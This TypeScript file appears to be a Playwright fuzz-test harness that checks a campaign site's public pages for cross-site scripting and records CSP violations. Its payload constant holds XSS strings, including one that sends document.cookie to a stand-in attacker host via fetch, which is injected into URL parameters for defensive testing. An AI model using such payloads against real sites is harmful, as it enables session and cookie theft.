// The fuzz harness: the browser check of every public page the fuzz reached.
import { type Page } from "@playwright/test";
import { SLUGS, RAN, RUNS_SCRIPT } from "./values";
import { type FuzzRequest, SELF_ORIGIN } from "./requests";
import { type SignerMail } from "./store";
import { BODY_LIMITS } from "../../app/server/request-body";

// ---------------------------------------------------------------------------------------------
// In the browser

/** Every public page the fuzz reached, and the withdraw links of the sentinel and the control (opening one only asks). */
export function publicPages(lang: string, signers: SignerMail[]): string[] {
  return [
    `/${lang}`,
    ...SLUGS.flatMap((s) => ["", "/signed", "/thanks", "/write", "/write/sent", "/challenge", "/sheet"].map((x) => `/${lang}/campaigns/${s}${x}`)),
    `/${lang}/my-data`,
    ...signers.map((m) => `/${lang}/signatures/${m.signatureId}/withdraw/${m.mac}`),
  ];
}

/** Every script payload at once, and the alert() and fetch() ones; the short one fits a name. */
export const SCRIPT_ALL = [
  ...RUNS_SCRIPT,
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
].join("");
export const SCRIPT_SHORT = `"><img src=x onerror=${RAN}=1>`;

/** URLs whose answer may echo a part of them. */
export function echoPages(lang: string, sentinel: SignerMail): string[] {
  const e = encodeURIComponent(SCRIPT_ALL);
  return [
    `/${lang}/campaigns/${SLUGS[0]}?source=${e}&country=${e}`,
    `/${lang}/campaigns/${SLUGS[0]}/write?country=${e}&area=${e}`,
    `/${lang}/campaigns/${SLUGS[0]}/sheet?partner=${e}`,
    `/${lang}/campaigns/${e}`,
    `/${lang}/campaigns/${e}/signed`,
    `/${lang}/confirm/${e}`,
    `/${lang}/messages/confirm/${e}`,
    `/${lang}/messages/${e}`,
    `/${lang}/unsubscribe/1/${e}`,
    `/${lang}/signatures/${sentinel.signatureId}/withdraw/${e}`,
    `/${lang}/${e}`,
    `/language/${lang}?to=/${e}`,
    `/api/v1/campaigns/${e}`,
    `/${e}`,
  ];
}

/** Content-Security-Policy violations, recorded in the page: markup that got in and was stopped only by the policy. */
export const RECORD_CSP_VIOLATIONS = `document.addEventListener("securitypolicyviolation", (e) => {
  (window.__padaukCspViolations = window.__padaukCspViolations || []).push(e.violatedDirective + " blocked " + (e.blockedURI || "inline") + (e.sample ? ": " + e.sample : ""));
}, true);`;

/** In the page: globals the payloads set, script handlers and javascript: URLs in the DOM, frames, CSP violations. */
export const INSPECT = `(() => {
  const found = [];
  for (const k of Object.getOwnPropertyNames(window)) if (k.startsWith(${JSON.stringify(RAN.slice(0, 12))})) found.push("global " + k + " = " + String(window[k]));
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      if (name.startsWith("on") || name === "srcdoc" || (/^(href|src|action|formaction|data|xlink:href)$/.test(name) && /^\\s*javascript:/i.test(a.value)))
        found.push("<" + el.localName + " " + a.name + "=" + JSON.stringify(a.value.slice(0, 80)) + ">");
    }
    if (/^(iframe|frame|object|embed|base)$/.test(el.localName)) found.push("element " + el.outerHTML.slice(0, 120));
  }
  for (const v of window.__padaukCspViolations || []) found.push("CSP violation: " + v);
  return found;
})()`;

export async function inspect(page: Page, where: string, problems: string[]) {
  // Time for an onerror, onload, autofocus or ontoggle handler to run, had one got in.
  await page.waitForTimeout(100);
  for (const f of (await page.evaluate(INSPECT)) as string[]) problems.push(`${where}: ${f}`);
}

/** What the Express layer refuses before any route: a post (not GET or HEAD) from another origin (app/cli/serve.ts). */
export function foreignPost(r: FuzzRequest, baseUrl: string): boolean {
  const o = r.headers.origin;
  // HEAD counts: Remix treats a HEAD of a .data URL as a submission, so the server checks its Origin too.
  if (r.method === "GET" || o === undefined || o === "null" || o === SELF_ORIGIN) return false;
  try {
    return new URL(o).host !== new URL(baseUrl).host;
  } catch {
    return true;
  }
}

/** A wrong withdraw link: 404; 403 to a foreign post; 400 for a backslash in the path or a segment that does not decode (Remix's "Failed to decode param"); any 4xx off the route. */
export function withdrawExpected(r: FuzzRequest, baseUrl: string): number | null {
  // A backslash in the path (also %5C) is refused first, with a 400.
  if (/%5c|\\/i.test(r.path.split("?")[0])) return 400;
  if (foreignPost(r, baseUrl)) return 403;
  // A body over the public forms' limit is refused before any route reads it.
  const size = typeof r.body === "string" ? Buffer.byteLength(r.body) : (r.body?.byteLength ?? 0);
  if (size > BODY_LIMITS.public.bytes) return 413;
  const p = new URL(baseUrl + r.path).pathname;
  if (!/^\/[^/]+\/signatures\/[^/]+\/withdraw\/[^/]+$/.test(p)) return null;
  const decodes = (seg: string) => {
    try {
      decodeURIComponent(seg);
      return true;
    } catch {
      return false;
    }
  };
  return p.split("/").every(decodes) ? 404 : 400;
}
